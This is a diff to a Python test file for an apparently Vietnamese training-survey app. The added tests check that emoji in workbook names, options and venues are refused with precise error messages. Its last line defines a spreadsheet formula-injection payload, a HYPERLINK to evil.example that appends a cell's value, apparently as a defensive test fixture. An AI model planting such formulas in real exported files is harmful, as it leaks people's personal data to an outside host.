@@ -117,10 +117,20 @@ def with_cell(sheet, row, col, value, **kw):
     (xlsx(with_cell("participants", 1, 5, "Bản Lạ")), ["Trang “participants”, dòng 2, cột village (F): không có thôn, bản “Bản Lạ” trong Xã Chợ Mới."]),
     (xlsx(with_cell("participants", 1, 6, "no")), ["Trang “pre”, dòng 2, cột code (A): người có mã “NN-01” chưa đồng ý cho lưu thông tin (cột consent ghi no).",
                                                    "Trang “post”, dòng 2, cột code (A): người có mã “NN-01” chưa đồng ý cho lưu thông tin (cột consent ghi no)."]),
+    (xlsx(with_cell("participants", 1, 1, "Hà Thị Thảo 😀")),
+     ["Trang “participants”, dòng 2, cột full_name (B): có ký tự không in được trên văn bản: “😀” (biểu tượng cảm "
+      "xúc, ký hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
+    (xlsx(with_cell("questions", 2, 3, "113 | 114 ☎️ | 115 | 116 | Không biết")),
+     ["Trang “questions”, dòng 3, cột options (D): có ký tự không in được trên văn bản: “☎” U+FE0F (biểu tượng "
+      "cảm xúc, ký hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
+    (xlsx(with_cell("training", 4, 1, "Nhà văn hóa 🏠")),
+     ["Trang “training”, dòng 5, cột venue (B): có ký tự không in được trên văn bản: “🏠” (biểu tượng cảm xúc, ký "
+      "hiệu đặc biệt); hãy xóa hoặc thay bằng chữ."]),
 ], ids=["missing sheet", "unknown code", "option 7 of 3 (text cell)", "option 7 of 5 (number cell)",
         "text in birth_year", "text in points", "text in an answer", "duplicate participant", "duplicate answer row",
         "empty file", "csv not xlsx", "broken zip", "unknown topic", "bad date", "answer key out of range",
-        "unknown type", "unknown village", "no consent"])
+        "unknown type", "unknown village", "no consent", "emoji in a name", "emoji in an option",
+        "emoji in the venue"])
 def test_malformed_workbook_is_refused_with_a_precise_message(db, trainer, units, data, expected):
     assert refused(data, trainer, units["02086"]) == expected
 
@@ -348,6 +358,20 @@ def test_roster_import_adds_people_all_or_nothing(db, client, login_as, create_t
     page = response.get_data(as_text=True)
     assert response.status_code == 200 and "chưa có họ tên" in page and "giới tính ghi Nữ hoặc Nam (F hoặc M)" in page
     assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 3
+
+
+def test_roster_import_reports_an_unprintable_name_as_a_row_error(db, client, login_as, create_training):
+    """Issue #14: a name the PDF font cannot draw would vanish from the answer sheets; it is refused
+    in the same table as the file's other errors, and no one is added."""
+    training = create_training(people=0)
+    login_as(Role.trainer, "02086")
+    bad = {"participants": sheets()["participants"] + [["NN-09", "Lý Thị Mai 🌸", "F", 1995, "Tày", "", "yes"]]}
+    response = client.post(f"/surveys/trainings/{training.id}/participants/import", content_type="multipart/form-data",
+                           data={"file": (io.BytesIO(xlsx(bad)), "ds.xlsx")})
+    page = response.get_data(as_text=True)
+    assert response.status_code == 200 and "<td>full_name (B)</td>" in page
+    assert "có ký tự không in được trên văn bản: “🌸”" in page
+    assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 0
 
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"Bấm để xem")'
